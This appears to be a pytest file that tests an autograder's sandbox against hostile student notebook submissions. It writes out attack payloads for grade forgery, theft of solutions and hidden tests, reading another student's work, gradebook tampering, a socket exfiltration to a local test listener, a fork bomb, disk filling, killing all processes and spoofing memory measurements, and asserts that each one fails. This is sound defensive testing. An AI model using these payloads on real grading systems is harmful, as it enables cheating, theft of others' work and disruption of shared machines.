"""Submissions that try to forge their grade or reach what is not theirs, graded by `sdpa-course grade` and `check`.

Each attack is the blank ch05 release with the attack written into its first solution
cell, so an attack that failed scores what the blank scores: 0.  One class (an honest
student, a blank one and every attacker) is graded once with ``--strict`` (the sandbox
must be there); then each attack is checked alone as a self-learner would.  After
grading: every attacker has at most the blank's points out of the same maximum, the
honest student keeps full marks, the gradebook, the other student's files and the course
folder are untouched, and the listener the test opened on 127.0.0.1 saw no connection.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import textwrap
from pathlib import Path

import nbformat
import pytest
from exercise_harness import ROOT, SOLUTIONS, cells_by_id, make_course, read, release_folder

from sdpa_course.cli import temporary_course
from sdpa_course.grading.autograde import interpreter_path
from sdpa_course.progress_store import LastCheck, ScoreStore

ASSIGNMENT = "ch05_softmax"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FIRST = "softmax"  # the solution cell the attacks are written into
REFERENCE_SOURCE = ROOT / "sdpa_lib" / "softmax.py"

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("require_sandbox")]


def attack_code(name: str, course: Path, port: int) -> str:
    """The code of attack ``name`` against ``course`` (paths of its gradebook, solutions and other students)."""
    honest = course / "submitted" / "honest" / ASSIGNMENT / NOTEBOOK
    solution = course / "solutions" / ASSIGNMENT / NOTEBOOK
    gradebook = course / "gradebook.db"
    codes = {
        "patches_grading": '''
            import importlib, pkgutil, types
            try:
                import sdpa_course
                for info in pkgutil.walk_packages(sdpa_course.__path__, "sdpa_course."):
                    try:
                        module = importlib.import_module(info.name)
                    except Exception:
                        continue
                    for key, value in list(vars(module).items()):
                        if isinstance(value, types.FunctionType):
                            setattr(module, key, lambda *args, **kwargs: None)
            except ImportError:
                print("no sdpa_course here")
            def softmax(x, axis=-1):
                return x
            ''',
        "clones_reference": '''
            import importlib, types
            import sdpa_lib
            importlib.reload(sdpa_lib.softmax)
            def clone(f):
                return types.FunctionType(f.__code__, dict(f.__globals__), f.__name__, f.__defaults__)
            softmax = clone(sdpa_lib.softmax)
            softmax_jacobian = clone(sdpa_lib.softmax_jacobian)
            softmax_backward = clone(sdpa_lib.softmax_backward)
            ''',
        "imports_reference_by_path": f'''
            import importlib.util
            namespace = {{}}
            try:
                exec(open({str(REFERENCE_SOURCE)!r}).read().replace("from ._checks", "from sdpa_lib._checks"), namespace)
            except OSError as error:
                print("no reference source:", error)
                spec = importlib.util.spec_from_file_location("mine", {str(REFERENCE_SOURCE)!r})
            softmax = namespace.get("softmax")
            softmax_jacobian, softmax_backward = namespace.get("softmax_jacobian"), namespace.get("softmax_backward")
            ''',
        "reads_solutions": f'''
            import json, sqlite3
            try:
                for cell in json.load(open({str(solution)!r}))["cells"]:
                    if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                        exec("".join(cell["source"]), globals())
            except OSError as error:
                print("no solutions:", error)
            try:
                print(sqlite3.connect({str(gradebook)!r}).execute("select source from source_cell").fetchall())
            except Exception as error:
                print("no hidden tests:", error)
            ''',
        "reads_another_student": f'''
            import json
            try:
                other = json.load(open({str(honest)!r}))
                print(json.dumps(other)[:2000])
                for cell in other["cells"]:
                    if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                        exec("".join(cell["source"]), globals())
            except OSError as error:
                print("no other student:", error)
            ''',
        "writes_files": f'''
            import sqlite3
            for attempt in (
                    lambda: sqlite3.connect({str(gradebook)!r}).execute("update student set first_name = 'pwned'"),
                    lambda: open({str(honest)!r}, "w").write("{{}}"),
                    lambda: open({str(course / "planted.txt")!r}, "w").write("was here")):
                try:
                    attempt()
                except Exception as error:
                    print("refused:", type(error).__name__)
            ''',
        "connects_out": f'''
            import socket
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")
            except OSError as error:
                print("no network:", error)
            ''',
        "fakes_output": '''
            import inspect, json
            from IPython.display import publish_display_data
            MIME = "application/vnd.sdpa-grader.result+json"
            print("softmax: visible checks passed\\nsoftmax: hidden checks passed")
            publish_display_data({MIME: json.dumps({"id": "0" * 32, "ok": True, "value": "{}"})})
            def softmax(x, axis=-1):
                for frame in inspect.stack():
                    request = frame.frame.f_locals.get("request")
                    if isinstance(request, dict) and "id" in request:
                        agent = __import__("_sdpa_grader")
                        publish_display_data({MIME: json.dumps({"id": request["id"], "ok": True, "warnings": [],
                                                                "value": agent.encode(x * 0)})})
                return x * 0
            ''',
        "forks_many": '''
            import os, time
            children = 0
            for _ in range(3000):
                try:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                    children += 1
                except OSError:
                    break
            print("forked", children)
            ''',
        "fills_the_disk": '''
            import os, tempfile
            for folder in (tempfile.gettempdir(), os.getcwd()):
                try:
                    with open(os.path.join(folder, "filler"), "wb") as filler:
                        for _ in range(64):
                            filler.write(b"x" * 2**24)  # up to 1 GiB
                except OSError as error:
                    print("stopped:", error)
            ''',
        "kills_the_parent": '''
            import os, signal
            for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            ''',
    }
    return textwrap.dedent(codes[name])


ATTACKS = ["patches_grading", "clones_reference", "imports_reference_by_path", "reads_solutions",
           "reads_another_student", "writes_files", "connects_out", "fakes_output", "forks_many", "fills_the_disk",
           "kills_the_parent", "claims_other_points"]


def attack_notebook(name: str, release, course: Path, port: int):
    """The blank release with the attack in its first solution cell (or, for metadata, in its cells' metadata)."""
    notebook = nbformat.from_dict(json.loads(json.dumps(release)))
    if name == "claims_other_points":
        test = cells_by_id(notebook)[f"test_{FIRST}"]
        test.metadata.nbgrader["points"] = 100
        test.source = 'print("softmax: hidden checks passed")'
        fake = nbformat.v4.new_code_cell('print("bonus")', metadata={"nbgrader": {
            "grade": True, "grade_id": "bonus", "locked": True, "points": 100, "schema_version": 3,
            "solution": False, "task": False}})
        copy = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
            **cells_by_id(notebook)[f"test_{FIRST}_jacobian"].metadata.nbgrader, "points": 50}})
        notebook.cells[2:2] = [fake, copy]
        return notebook
    cells_by_id(notebook)[FIRST].source = attack_code(name, course, port)
    return notebook


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.accepted: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.accepted.append(connection.recv(100))
                except OSError:
                    self.accepted.append(b"")


@pytest.fixture(scope="module")
def listener():
    listening = Listener()
    yield listening
    listening.server.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def course_files(course: Path) -> set[str]:
    """Files of the course that grading does not write (its outputs are autograded/, feedback/, grades/)."""
    return {str(p.relative_to(course)) for p in course.rglob("*") if p.is_file()
            and p.relative_to(course).parts[0] not in {"autograded", "feedback", "grades", ".nbgrader.log"}}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, listener):
    """The class graded once by `sdpa-course grade --strict`: (course, rows, what was there before grading)."""
    course = make_course(tmp_path_factory.mktemp("attacks"), ASSIGNMENT)
    os.chmod(course, 0o755)
    solution, release = read(SOLUTIONS / ASSIGNMENT / NOTEBOOK), read(release_folder(course, ASSIGNMENT) / NOTEBOOK)
    submissions = {"honest": solution, "blank": release,
                   **{name: attack_notebook(name, release, course, listener.port) for name in ATTACKS}}
    for student, notebook in submissions.items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(notebook, folder / NOTEBOOK)
    before = {"files": course_files(course), "honest": digest(course / "submitted" / "honest" / ASSIGNMENT / NOTEBOOK),
              "students": sqlite3.connect(course / "gradebook.db").execute("select id, first_name from student").fetchall()}
    graded = subprocess.run([sys.executable, "-m", "sdpa_course.cli", "grade", ASSIGNMENT, "--course", str(course),
                             "--strict", "--timeout=300"], capture_output=True, text=True,
                            env={**os.environ, "PATH": interpreter_path()})
    path = course / "grades" / f"{ASSIGNMENT}.csv"
    assert path.exists(), f"no {path}:\n{graded.stdout}\n{graded.stderr}"
    with open(path) as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    return course, rows, before


def score(row: dict) -> float:
    return float(row["score"]) if row["score"] else 0.0


def test_the_honest_student_keeps_full_marks_and_the_blank_scores_nothing(graded_class):
    """The control: grading still gives what the work deserves, beside every attack."""
    _, rows, _ = graded_class
    assert rows["honest"]["status"] == "graded" and score(rows["honest"]) == float(rows["honest"]["max_score"]) > 0
    assert rows["blank"]["status"] == "graded" and score(rows["blank"]) == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_scores_no_more_than_the_blank(graded_class, attack):
    """Whatever the submission does, it gets at most the blank's points, out of the same maximum."""
    _, rows, _ = graded_class
    row = rows[attack]
    assert score(row) <= score(rows["blank"]), row
    if row["max_score"]:
        assert float(row["max_score"]) == float(rows["honest"]["max_score"]), row


def test_no_attack_leaves_a_trace(graded_class, listener):
    """Gradebook, the other student's notebook and the course folder as they were; no connection got out."""
    course, _, before = graded_class
    students = sqlite3.connect(course / "gradebook.db").execute("select id, first_name from student").fetchall()
    assert set(before["students"]) <= set(students) and "pwned" not in {name for _, name in students}
    assert digest(course / "submitted" / "honest" / ASSIGNMENT / NOTEBOOK) == before["honest"]
    assert course_files(course) - before["files"] == set()
    assert listener.accepted == []


def printed_text(path: Path) -> str:
    """Everything a notebook's cells printed (stream outputs), not their source."""
    return "\n".join(output.get("text", "") for cell in read(path).cells for output in cell.get("outputs", [])
                     if output.get("output_type") == "stream")


def test_what_the_readers_printed_holds_no_solution_and_no_hidden_test(graded_class):
    """The students who tried to read the solutions, the gradebook and another's work printed none of it."""
    course, _, _ = graded_class
    solution_line = "row_max = np.where(np.isneginf(row_max), 0, row_max)"
    hidden_line = "softmax_task.check_random(softmax)"
    sources = "\n".join(cell.source for cell in read(SOLUTIONS / ASSIGNMENT / NOTEBOOK).cells)
    assert solution_line in sources and hidden_line in sources  # the lines a successful reader would print
    for student in ("reads_solutions", "reads_another_student"):
        printed = printed_text(course / "autograded" / student / ASSIGNMENT / NOTEBOOK)
        assert "no " in printed, printed  # the attack ran and said what stopped it
        assert solution_line not in printed and hidden_line not in printed


def check_learner(folder: Path, assignment: str, notebook) -> tuple[LastCheck, str]:
    """`sdpa-course check --strict` of ``notebook`` as a learner's exercise in ``folder``: (its last check, the output)."""
    learner = temporary_course(ROOT, folder)
    os.chmod(learner, 0o755)
    shutil.copytree(SOLUTIONS / assignment, learner / "solutions" / assignment)
    (learner / "exercises" / assignment).mkdir(parents=True)
    nbformat.write(notebook, learner / "exercises" / assignment / f"{assignment}.ipynb")
    scores = folder / "scores.json"
    checked = subprocess.run([sys.executable, "-m", "sdpa_course.cli", "check", assignment, "--course", str(learner),
                              "--strict", "--timeout=300"], capture_output=True, text=True,
                             env={**os.environ, "PATH": interpreter_path(), "SDPA_COURSE_SCORES": str(scores)})
    return ScoreStore(scores).last_checks(learner)[assignment], checked.stdout + checked.stderr


@pytest.mark.parametrize("attack", ATTACKS)
def test_check_gives_an_attack_no_more_than_the_blank(tmp_path, listener, attack):
    """`sdpa-course check`, the self-learner's command, grades with the same engine: the attack scores 0."""
    release = read(ROOT / "exercises" / ASSIGNMENT / NOTEBOOK)
    result, output = check_learner(tmp_path, ASSIGNMENT, attack_notebook(attack, release, tmp_path, listener.port))
    assert (result.score or 0) == 0, output
    assert listener.accepted == []


LIES_ABOUT_MEMORY = """\
import tracemalloc
tracemalloc.get_traced_memory = lambda: (0, 0)  # what the kernel would report of its peak

def attention_row_by_row(query, key, value):
    scores = query @ np.swapaxes(key, -1, -2) / np.sqrt(query.shape[-1])  # the whole (..., L, S) matrix
    weights = np.exp(scores - scores.max(axis=-1, keepdims=True))
    return weights / weights.sum(axis=-1, keepdims=True) @ value
"""


def test_the_memory_check_reads_the_kernel_from_outside(tmp_path):
    """A chapter-7 function that builds the score matrix and silences tracemalloc still loses its test."""
    assignment = "ch07_parallelism"
    solution = read(SOLUTIONS / assignment / f"{assignment}.ipynb")
    cells_by_id(solution)["attention_row_by_row"].source = LIES_ABOUT_MEMORY
    result, output = check_learner(tmp_path, assignment, solution)
    assert result.score == result.max_score - 2, output  # test_attention_row_by_row is worth 2
    assert "score matrix" in output
